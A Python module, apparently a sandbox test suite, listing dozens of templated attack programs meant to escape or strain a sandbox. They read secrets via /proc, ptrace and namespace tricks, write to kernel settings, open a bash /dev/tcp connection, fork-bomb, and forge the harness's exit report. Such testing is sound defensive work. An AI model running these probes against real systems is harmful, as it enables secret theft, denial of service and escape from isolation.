"""Programs that try to get out of the sandbox, or past it, each in its own way.

An attack prints ESCAPED where it got what it wanted, or the secret itself. Words that
begin with @ are filled in: @FILE (holds the secret), @FOLDER (anybody may write there),
@PID (a process with the secret in its arguments, environment and open files), @PORT (of
a server on this machine), @SOCKET (the name of an abstract one), @MARK (a number).
"""

_LIBC = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
_PASS = "\n  except Exception: pass\n"


def _each(paths: str, read: str = "print(open(p, errors='replace').read(10**6))"):
    """Reads each of the files that a glob finds."""
    return (
        f"import glob\nfor p in glob.glob('{paths}'):\n  try: {read}{_PASS}"
        "  except BaseException: pass\n"
    )


READING = {
    "open": "print(open('@FILE').read())",
    "os.open": "import os\nprint(os.read(os.open('@FILE', 0), 999))",
    "FileIO": "import io\nprint(io.FileIO('@FILE').read())",
    "symbolic link": "import os\nos.symlink('@FILE', 'l')\nprint(open('l').read())",
    "hard link": "import os\nos.link('@FILE', 'l')\nprint(open('l').read())",
    "dots": "print(open('../' * 40 + '@FILE').read())",
    "path by descriptor": "import os\nd = os.open('/', 0)\n"
    "print(os.read(os.open('@FILE'[1:], 0, dir_fd=d), 999))",
    "libc": _LIBC + "b = ctypes.create_string_buffer(999)\n"
    "libc.read(libc.open(b'@FILE', 0), b, 999)\nprint(b.value)",
    "cat": "import subprocess\nprint(subprocess.run(['cat', '@FILE'], "
    "capture_output=True, text=True).stdout)",
    "shell": "import os\nprint(os.popen('cat @FILE; grep -r SECRET / 2>/dev/null "
    "--include=*.jsonl').read())",
    "exec": "import os\nos.execv('/bin/cat', ['cat', '@FILE'])",
    "spawn": "import multiprocessing.util as u\n"
    "u.spawnv_passfds(b'/bin/cat', [b'cat', b'@FILE'], [0, 1, 2])\n"
    "import time; time.sleep(1)",
    "mmap": "import mmap, os\nd = os.open('@FILE', 0)\n"
    "print(mmap.mmap(d, 0, prot=1)[:])",
    "sqlite": "import sqlite3\nc = sqlite3.connect('file:@FILE?mode=ro', uri=True)\n"
    "try: c.execute('select * from t')\nexcept sqlite3.DatabaseError as e:\n"
    "  if 'not a database' in str(e): print('ESCAPED')",
    "zipimport": "import os, linecache\nprint(linecache.getlines('@FILE'))",
    "walk": "import os\nfor d, _, names in os.walk('/'):\n  for n in names:\n"
    "    if n.endswith('.jsonl'): print(open(os.path.join(d, n)).read())",
    "command lines": _each("/proc/*/cmdline"),
    "environments": _each("/proc/*/environ"),
    "the process's own arguments": "import sys\nprint(sys.orig_argv, sys.argv)\n"
    "print(open('/proc/self/cmdline').read(), open('/proc/1/cmdline').read())",
    "the environment": "import os\nprint(os.environ)",
    "process by number": "print(open('/proc/@PID/cmdline').read())",
    "another's root": "print(open('/proc/@PID/root@FILE').read())",
    "another's descriptors": _each("/proc/@PID/fd/*"),
    "all descriptors": _each("/proc/*/fd/*", "print(open(p).read(999))"),
    "another's memory map": "import os\nprint(open('/proc/@PID/maps').read())\n"
    "print('ESCAPED')",
    "first process's memory": "open('/proc/1/mem', 'rb+').read(1)\nprint('ESCAPED')",
    "inherited descriptors": "import os\nfor d in range(1000):\n"
    "  try: print(os.pread(d, 10**6, 0))\n  except OSError: pass",
    "kernel's memory": _each("/dev/mem")
    + _each("/proc/kcore", "open(p, 'rb').read(1); print('ESCAPED')"),
    "disk": _each("/dev/[svx]*", "open(p, 'rb').read(512); print('ESCAPED')"),
    "new device": "import os, stat\nos.mknod('d', 0o600 | stat.S_IFBLK, "
    "os.makedev(254, 0))\nopen('d', 'rb').read(512)\nprint('ESCAPED')",
    "shared memory": _each("/dev/shm/*") + _each("/run/*"),
    "process_vm_readv": _LIBC + "b = ctypes.create_string_buffer(8)\n"
    "v = (ctypes.c_size_t * 2)(ctypes.addressof(b), 8)\n"
    "for p in (@PID, 1, os.getppid()):\n"
    "  if libc.process_vm_readv(p, v, 1, v, 1, 0) > 0 and p: print('ESCAPED')",
    "ptrace": _LIBC + "for p in (@PID, 1, os.getppid()):\n"
    "  if p and libc.ptrace(16, p, 0, 0) == 0: print('ESCAPED')",
    "handle": _LIBC + "h = (ctypes.c_char * 136)()\nctypes.memmove(h, b'\\x80', 1)\n"
    "m = ctypes.c_int()\n"
    "libc.name_to_handle_at(-100, b'/usr', h, ctypes.byref(m), 0)\n"
    "if libc.open_by_handle_at(os.open('/', 0), h, 0) >= 0: print('ESCAPED')",
    "chroot": "import os\nos.mkdir('d')\nos.chroot('d')\n"
    "for _ in range(99): os.chdir('..')\nos.chroot('.')\nprint(open('@FILE').read())",
    "old root": _each("/old_root/@FILE") + _each("/.old/@FILE") + _each("/../@FILE"),
    "mount": _LIBC + "os.mkdir('m')\n"
    "for kind in (b'proc', b'sysfs', b'tmpfs', b'devtmpfs'):\n"
    "  if libc.mount(b'x', b'm', kind, 0, None) == 0: print('ESCAPED')",
    "new namespaces": _LIBC + "if libc.unshare(0x10000000 | 0x20000) == 0:\n"
    "  print('ESCAPED')",
    "new namespaces by clone": _LIBC
    + "n = {'x86_64': 56, 'aarch64': 220}[os.uname().machine]\n"
    "if libc.syscall(n, 0x10000000 | 17, 0, 0, 0, 0) >= 0: print('ESCAPED')",
    "first process's namespaces": _LIBC + "for p in (1, @PID):\n  for n in os.listdir("
    "f'/proc/{p}/ns'):\n    if libc.setns(os.open(f'/proc/{p}/ns/{n}', 0), 0) == 0: "
    "print('ESCAPED')",
    "another user": "import os\nos.setresuid(0, 0, 0)\nprint('ESCAPED')",
    "program of another user": "import subprocess\nfor p in ('su', 'sudo', 'pkexec', "
    "'mount'):\n  try: r = subprocess.run([p, '-c', 'id'], capture_output=True, "
    "text=True)\n  except OSError: continue\n"
    "  if 'uid=0' in r.stdout: print('ESCAPED')",
    "frames and objects": "import gc, sys\nf = sys._getframe()\n"
    "while f: print(f.f_locals, f.f_globals); f = f.f_back\n"
    "print([o for o in gc.get_objects() if isinstance(o, (list, dict))])",
}  # fmt: skip
"""Attacks that print the secret, or what lies outside."""

WRITING = {
    "open": "open('@FOLDER/new', 'w').write('x')",
    "libc": _LIBC + "libc.creat(b'@FOLDER/new', 0o666)",
    "touch": "import os\nos.system('touch @FOLDER/new')",
    "rename": "import os\nopen('x', 'w').close()\nos.rename('x', '@FOLDER/new')",
    "remove": "import os\nos.remove('@FILE')",
    "another's folder": "open('/proc/@PID/cwd/new', 'w').write('x')",
    "socket": "import socket\nsocket.socket(socket.AF_UNIX).bind('@FOLDER/new')",
    "fifo": "import os\nos.mkfifo('@FOLDER/new')",
    "library": "import os\nopen(os.__file__, 'a').write('#')\nprint('ESCAPED')",
    "compiled library": "import os, py_compile\nd = os.path.dirname(os.__file__)\n"
    "open(d + '/new_module.py', 'w').write('')\nprint('ESCAPED')",
    "root": "import os\nos.mkdir('/new')\nprint('ESCAPED')",
    "remount": _LIBC + "if libc.mount(None, b'/usr', None, 32 | 4096, None) == 0 or "
    "libc.mount(None, b'/', None, 32, None) == 0: print('ESCAPED')",
    "kernel settings": "open('/proc/sys/kernel/hostname', 'w').write('x')\n"
    "print('ESCAPED')",
    "core pattern": "open('/proc/sys/kernel/core_pattern', 'w').write('x')\n"
    "print('ESCAPED')",
    "clock": "import time\ntime.clock_settime(time.CLOCK_REALTIME, 0)\n"
    "print('ESCAPED')",
    "host name": "import socket\nsocket.sethostname('x')\nprint('ESCAPED')",
    "module of the kernel": _LIBC + "if libc.init_module(b'x', 1, b'') == 0 or "
    "ctypes.get_errno() not in (1, 38): print('ESCAPED')",
    "key": _LIBC + "n = {'x86_64': 248, 'aarch64': 217}[os.uname().machine]\n"
    "if libc.syscall(n, b'user', b'a', b'b', 1, -4) > 0: print('ESCAPED')",
}  # fmt: skip
"""Attacks that leave something outside their folder."""

REACHING = {
    "tcp": "import socket\nsocket.create_connection(('127.0.0.1', @PORT), 2)\n"
    "print('ESCAPED')",
    "tcp by libc": _LIBC + "import socket, struct\ns = libc.socket(2, 1, 0)\n"
    "a = struct.pack('=H', 2) + struct.pack('>H', @PORT) + bytes((127, 0, 0, 1)) + "
    "bytes(8)\nif libc.connect(s, a, 16) == 0: print('ESCAPED')",
    "tcp by bash": "import os\nos.system(\"bash -c 'echo ESCAPED > "
    "/dev/tcp/127.0.0.1/@PORT && echo ESCAPED'\")",
    "udp": "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
    "s.sendto(b'x', ('192.0.2.1', 53))\nprint('ESCAPED')",
    "raw": "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, 1)\n"
    "print('ESCAPED')",
    "packets": "import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW)\n"
    "print('ESCAPED')",
    "name": "import socket\nsocket.getaddrinfo('example.com', 80)\nprint('ESCAPED')",
    "abstract socket": "import socket\nsocket.socket(socket.AF_UNIX).connect("
    "'\\0@SOCKET')\nprint('ESCAPED')",
    "host of a virtual machine": "import socket\nsocket.socket(socket.AF_VSOCK)\n"
    "print('ESCAPED')",
    "ciphers of the kernel": "import socket\n"
    "socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET)\nprint('ESCAPED')",
    "kill": "import os\nos.kill(@PID, 9)\nprint('ESCAPED')",
    "kill by libc": _LIBC + "if libc.kill(@PID, 9) == 0: print('ESCAPED')",
    "priority": "import os\nos.setpriority(os.PRIO_PROCESS, 0, -20)\n"
    "print('ESCAPED')",
    "real time": "import os\n"
    "os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(9))\nprint('ESCAPED')",
    "limits": "import resource as r\nfor k in (r.RLIMIT_AS, r.RLIMIT_NPROC, "
    "r.RLIMIT_FSIZE):\n  try: r.setrlimit(k, (-1, -1))\n  except Exception: continue\n"
    "  print('ESCAPED')",
    "limits of another": "import resource as r\n"
    "r.prlimit(@PID, r.RLIMIT_NOFILE, (9, 9))\nprint('ESCAPED')",
    "events": _LIBC + "n = {'x86_64': 298, 'aarch64': 241}[os.uname().machine]\n"
    "if libc.syscall(n, bytes(128), 0, -1, -1, 0) >= 0: print('ESCAPED')",
    "kernel programs": _LIBC
    + "n = {'x86_64': 321, 'aarch64': 280}[os.uname().machine]\n"
    "if libc.syscall(n, 0, bytes(128), 72) >= 0: print('ESCAPED')",
}  # fmt: skip
"""Attacks on the network, other processes and the machine."""

TAKING = {
    "memory of many": "import os, time\nfor _ in range(7):\n  if os.fork() == 0:\n"
    "    x = bytearray(os.urandom(1 << 20) * 150)\n    time.sleep(30)\n"
    "time.sleep(5)\nprint('ESCAPED')",
    "memory let go": "import mmap\nfor i in range(60):\n  m = mmap.mmap(-1, 10**7)\n"
    "  m[:] = bytes(10**7)\n  m.madvise(mmap.MADV_DONTNEED)\nprint('ESCAPED')",
    "mapped device": "import mmap, os\n"
    "mmap.mmap(os.open('/dev/zero', os.O_RDWR), 10**7)\nprint('ESCAPED')",
    "messages of POSIX": _LIBC
    + "n = {'x86_64': 240, 'aarch64': 180}[os.uname().machine]\n"
    "if libc.syscall(n, b'q', 0o102, 0o600, None) >= 0: print('ESCAPED')",
    "memory files": "import os\nfor i in range(50):\n"
    "  os.write(os.memfd_create('x'), bytes(10**7))\nprint('ESCAPED')",
    "shared memory": _LIBC + "i = libc.shmget(0, 10**8, 0o1600)\n"
    "if i >= 0: print('ESCAPED')",
    "semaphores": _LIBC + "if libc.semget(0, 32000, 0o1600) >= 0: print('ESCAPED')",
    "messages": _LIBC + "if libc.msgget(0, 0o1600) >= 0: print('ESCAPED')",
    "forks": "import os\nwhile True:\n  try: os.fork()\n  except OSError: pass",
    "daemon": "import os\nif os.fork() == 0:\n  os.setsid()\n  if os.fork() == 0:\n"
    "    os.execv('/bin/sleep', ['sleep', '@MARK'])\n  os._exit(0)\n"
    "import time; time.sleep(0.5)",
    "daemon by spawn": "import multiprocessing.util as u, time\n"
    "u.spawnv_passfds(b'/bin/sh', [b'sh', b'-c', b'setsid sleep @MARK &'], ())\n"
    "time.sleep(0.5)",
    "deaf": "import signal, time\nfor s in set(signal.Signals) - {9, 19}:\n"
    "  signal.signal(s, signal.SIG_IGN)\nwhile True: time.sleep(1)",
    "parent's end": "import os, time\nfor s in (9, 19, 15):\n"
    "  try: os.kill(os.getppid(), s)\n  except OSError: pass\ntime.sleep(30)",
    "output": "import sys\nwhile True: sys.stdout.write('x' * 10**6)",
    "errors": "import sys\nwhile True: sys.stderr.write('x' * 10**6)",
    "one file": "f = open('x', 'wb')\nwhile True: f.write(bytes(10**6))",
    "many files": "import os\nfor i in range(10**9):\n"
    "  f = os.open(str(i), os.O_CREAT | os.O_WRONLY)\n  os.write(f, bytes(10**6))\n"
    "  os.close(f)",
    "deep folders": "import os\nfor i in range(3000):\n"
    "  os.mkdir('d'); os.chdir('d')",
    "report": "import os\nfor d in range(3, 99):\n"
    "  try: os.write(d, b'exit 0 0.1\\n')\n"
    "  except OSError: pass\n"
    "for p in (1, os.getppid()):\n  for d in range(99):\n"
    "    try: os.write(os.open(f'/proc/{p}/fd/{d}', 1), b'exit 0 0.1\\n')\n"
    "    except OSError: pass\n1 / 0",
}  # fmt: skip
"""Attacks that take more than their share, or want to live on."""

ATTACKS = {
    f"{kind}: {name}": program
    for kind, programs in (
        *(("read", READING), ("write", WRITING)),
        *(("reach", REACHING), ("take", TAKING)),
    )
    for name, program in programs.items()
}
